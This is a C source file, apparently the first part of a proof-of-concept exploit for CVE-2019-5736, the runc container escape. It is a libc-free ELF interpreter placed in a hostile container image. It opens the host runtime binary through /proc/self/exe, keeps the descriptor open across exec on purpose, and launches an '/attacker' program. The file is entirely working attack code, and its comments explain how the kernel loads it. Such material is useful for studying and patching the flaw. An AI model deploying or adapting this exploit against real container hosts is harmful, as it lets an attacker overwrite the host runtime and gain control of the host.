/* The hostile image of CVE-2019-5736, first part: its ELF interpreter. When the runtime is asked to
 * execute /proc/self/exe, the kernel maps the runtime's own binary and starts this program in its
 * place; /proc/self/exe is then the file on the host. Without a C library, which would look for its
 * own tables in the program that was executed. */
#include <asm/unistd.h>
#include <fcntl.h>

static long call(long number, long a, long b, long c) {
#if defined(__x86_64__)
  long result;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "0"(number), "D"(a), "S"(b), "d"(c), "r"(0)
                   : "rcx", "r11", "memory");
  return result;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
  return x0;
#endif
}

void _start(void) {
  /* In a segment that can be written to: Linux before 6.6 clears the rest of an interpreter's last
   * page, whatever its protection, and refuses the program if it cannot (load_elf_interp()). */
  static char program[] = "/attacker";
  const char* const args[] = {program, 0};
  /* Not close-on-exec: that is the point. O_RDONLY is 0. */
  const long fd = call(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", 0);
  call(__NR_dup3, fd, 100, 0);
  call(__NR_execve, (long)program, (long)args, 0);
  call(__NR_exit_group, 2, 0, 0);
}
